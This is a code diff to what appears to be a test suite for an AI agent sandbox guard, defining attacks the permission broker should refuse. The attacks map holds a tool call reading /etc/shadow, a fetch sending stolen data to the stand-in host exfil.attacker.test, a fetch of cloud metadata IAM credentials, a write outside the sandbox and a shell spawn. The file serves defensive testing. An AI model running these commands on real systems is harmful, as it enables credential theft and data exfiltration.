@@ -9,9 +9,12 @@ const attacks = {
   // A tool outside tools_allowed (and inside tools_denied): the broker refuses before any handler.
   denied_tool: (ctx) => ctx.tools.call('exec', { command: 'cat /etc/shadow' }),
   // Exfiltration to a name that is not allowlisted: refused before DNS, so not even a lookup leaks.
-  blocked_domain: () => fetch('http://exfil.attacker.test/collect?data=stolen'),
-  // Cloud metadata credentials: an IP literal that is never allowed.
-  metadata_ip: () => fetch('http://169.254.169.254/latest/meta-data/iam/security-credentials/'),
+  // On a port the agent may use (task.port), so the refusal is about the name, not the port.
+  blocked_domain: (ctx, task) => fetch(`http://exfil.attacker.test:${task.port ?? 80}/collect?data=stolen`),
+  // Cloud metadata credentials: an IP literal, on an allowed port and even allowlisted by name in
+  // this agent's config, still refused by the address rule (metadata is never reachable).
+  metadata_ip: (ctx, task) =>
+    fetch(`http://169.254.169.254:${task.port ?? 80}/latest/meta-data/iam/security-credentials/`),
   // Persistence: write outside the sandbox (the permission model refuses every write).
   file_write: () => writeFileSync('/tmp/subagent-guard-demo-pwned', 'owned'),
   // Code execution: spawn a shell (the permission model refuses child processes).
@@ -37,6 +40,6 @@ const attacks = {
 export default async (task, ctx) => {
   const attack = attacks[task?.attack];
   if (attack === undefined) throw new Error(`unknown attack: ${String(task?.attack)}`);
-  await attack(ctx);
+  await attack(ctx, task);
   return { attack: task.attack, result: 'the attack was not stopped' };
 };
